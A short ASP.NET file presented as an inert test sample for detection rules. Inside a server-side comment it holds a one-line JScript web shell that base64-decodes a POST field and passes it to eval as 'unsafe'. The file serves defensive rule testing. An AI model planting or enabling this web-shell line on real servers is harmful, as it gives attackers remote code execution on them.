<%-- exir test sample: inert text in the shape of a web shell, written for rule tests. The server-side comment around it keeps ASP.NET from running any of it.
<%@ Page Language="Jscript" Debug=false%>
<%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Form["exir_z1"])),"unsafe");%>
--%>
